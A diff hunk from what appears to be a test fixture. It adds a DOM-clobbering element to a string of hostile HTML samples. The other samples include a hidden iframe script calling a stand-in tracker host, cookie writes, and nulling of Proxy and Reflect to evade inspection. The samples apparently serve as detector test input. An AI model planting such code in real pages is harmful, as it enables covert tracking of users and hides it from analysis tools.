@@ -31,6 +31,7 @@ confirm("sure?");
 #: What is kept and sent where few look for it, by a page that spoils what tells who did it.
 OUT_OF_SIGHT = """
 <iframe srcdoc="<script>fetch('https://ads.stranger.example/written', { mode: 'no-cors' })</script>"></iframe>
+<img name="querySelector">
 <iframe srcdoc="<script>Object.freeze(Error); document.cookie = 'frozen=1'</script>"></iframe>
 <script>
 window.Proxy = window.Reflect = null;
